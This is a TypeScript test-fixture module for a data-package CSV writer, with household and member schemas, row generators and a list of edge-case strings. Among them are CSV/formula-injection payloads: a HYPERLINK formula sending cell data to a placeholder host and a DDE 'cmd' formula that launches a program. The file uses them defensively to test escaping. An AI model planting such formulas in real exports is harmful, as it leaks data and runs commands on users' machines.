// Two record types for testing the package writer without the export's own: households and their members,
// with a foreign key between them and one to itself, every field type the writer knows, and values chosen
// to break a careless CSV writer. Also a generator of many plain rows for the large-package tests, and the
// metadata of a test package.
import { z } from 'zod'
import type { CasebookMetadata } from '../package/datapackage'
import type { ResourceDefinition, Row } from '../package/resource'

export const householdSchema = z.object({
  id: z.uuid().describe('Household id'),
  reference: z
    .string()
    .regex(/^[A-Z]{2,5}\d{1,7}$/)
    .describe('Hub code and number'),
  name: z.string().max(200_000).describe('What the household is called'),
  language: z.enum(['en', 'pl', 'ar', 'ur']).nullable().describe('Main language'),
  interpreter_needed: z.boolean().describe('An interpreter is needed'),
  registered_on: z.iso.date().describe('Registered on'),
  updated_at: z.iso.datetime().describe('Last changed: an instant in UTC'),
  notes: z.string().nullable().describe('Anything else')
})

export const memberSchema = z.object({
  id: z.uuid().describe('Member id'),
  household_id: z.uuid().describe('The household (households.csv)'),
  parent_id: z.uuid().nullable().describe('Their parent, when a member too'),
  given_name: z.string().min(1).max(100).meta({ description: 'Given name' }),
  score: z.int().min(-10).max(10).nullable().describe('A score that may be negative'),
  weight: z.number().nullable().describe('Any number'),
  date_of_birth: z.iso.date().nullable().describe('Date of birth')
})

export const households: ResourceDefinition<typeof householdSchema> = {
  name: 'households',
  title: 'Households',
  description: 'One row per household',
  schema: householdSchema,
  primaryKey: ['id']
}

export const members: ResourceDefinition<typeof memberSchema> = {
  name: 'members',
  title: 'Members',
  description: 'One row per member of a household',
  schema: memberSchema,
  primaryKey: ['id'],
  foreignKeys: [
    { fields: ['household_id'], reference: { resource: 'households', fields: ['id'] } },
    { fields: ['parent_id'], reference: { resource: '', fields: ['id'] } }
  ]
}

/** A package's `casebook` metadata for the test hub TH: package 1, full, with `extra` over it. */
export function sampleMetadata(extra: Partial<CasebookMetadata> = {}): CasebookMetadata {
  return {
    formatVersion: '1.0',
    hubCode: 'TH',
    localAuthorityCode: '999',
    packageSequence: 1,
    kind: 'full',
    changeSequence: { from: 0, to: 42 },
    pseudonymised: false,
    ...extra
  }
}

export type HouseholdRow = z.output<typeof householdSchema>
export type MemberRow = z.output<typeof memberSchema>

/** A v4-shaped uuid made from a number, so rows are reproducible. */
export function uuidFor(kind: number, n: number): string {
  const hex = n.toString(16).padStart(12, '0')
  return `${kind.toString(16).padStart(8, '0')}-0000-4000-8000-${hex}`
}

/** Text that a spreadsheet would run as a formula, or that a careless CSV writer would split. */
export const HOSTILE_TEXTS = [
  'Smith, Jones',
  'She said "no"',
  '"',
  '""',
  'line one\nline two',
  'line one\r\nline two',
  'carriage\rreturn',
  '\r\n',
  ',',
  '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
  "=cmd|'/c calc'!A1",
  '+44 7700 900123',
  '-2+3',
  '@SUM(A1:A9)',
  '\tstarts with a tab',
  '\rstarts with a carriage return',
  '\nstarts with a line feed',
  '  spaces either side  ',
  ';=1+2',
  'Zoë Ødegård-Łukasiewicz',
  'محمد عبد الله',
  '王秀英',
  'Анастасия',
  'देवनागरी',
  '👨‍👩‍👧‍👦 family, 🏳️‍🌈 flag',
  'back\\slash and NUL \u0000 inside',
  "it's",
  'ends with a quote"'
]

export function hostileHouseholds(): HouseholdRow[] {
  const long = `${'A very long note, with commas, "quotes" and\r\nline breaks. '.repeat(1500)}🎉`
  return HOSTILE_TEXTS.map((text, i) => ({
    id: uuidFor(1, i + 1),
    reference: `TH${i + 1}`,
    name: text,
    language: (['en', 'pl', 'ar', null] as const)[i % 4]!,
    interpreter_needed: i % 2 === 0,
    registered_on: '2026-02-28',
    updated_at: '2026-11-24T03:14:20.123Z',
    notes: i === 0 ? long : i % 3 === 0 ? null : HOSTILE_TEXTS[(i + 7) % HOSTILE_TEXTS.length]!
  }))
}

export function hostileMembers(): MemberRow[] {
  return HOSTILE_TEXTS.map((text, i) => ({
    id: uuidFor(2, i + 1),
    household_id: uuidFor(1, (i % HOSTILE_TEXTS.length) + 1),
    parent_id: i === 0 ? null : uuidFor(2, 1),
    given_name: text,
    score: i % 5 === 4 ? null : (i % 21) - 10,
    weight: i % 4 === 0 ? null : [0.1 + 0.2, 0, 1e21, -1.5e-7, 12345.678][i % 5]!,
    date_of_birth: i % 3 === 0 ? null : `20${String(10 + (i % 15)).padStart(2, '0')}-0${1 + (i % 9)}-1${i % 10}`
  }))
}

const NAMES = ['Grace', 'Okafor, Jr', 'Zoë', 'Ahmed "Tony"', 'Łucja', '王伟', '=Ali', 'Mary-Jane']

/** `count` households with `perHousehold` members each, made as they are read (nothing held in memory). */
export function* manyHouseholds(count: number): Generator<Row> {
  for (let i = 1; i <= count; i++) {
    yield {
      id: uuidFor(1, i),
      reference: `TH${i}`,
      name: `${NAMES[i % NAMES.length]} household ${i}`,
      language: i % 5 === 0 ? null : 'en',
      interpreter_needed: i % 7 === 0,
      registered_on: '2025-06-30',
      updated_at: '2026-11-24T03:14:20.000Z',
      notes: i % 3 === 0 ? null : `Moved in ${i % 28} days ago, with "boxes"\nand a dog`
    }
  }
}

export function* manyMembers(households: number, perHousehold: number): Generator<Row> {
  let n = 0
  for (let h = 1; h <= households; h++) {
    for (let m = 0; m < perHousehold; m++) {
      n++
      yield {
        id: uuidFor(2, n),
        household_id: uuidFor(1, h),
        parent_id: m === 0 ? null : uuidFor(2, n - m),
        given_name: NAMES[n % NAMES.length]!,
        score: (n % 21) - 10,
        weight: n % 4 === 0 ? null : n / 8,
        date_of_birth: m === 0 ? '1990-01-15' : '2018-07-03'
      }
    }
  }
}
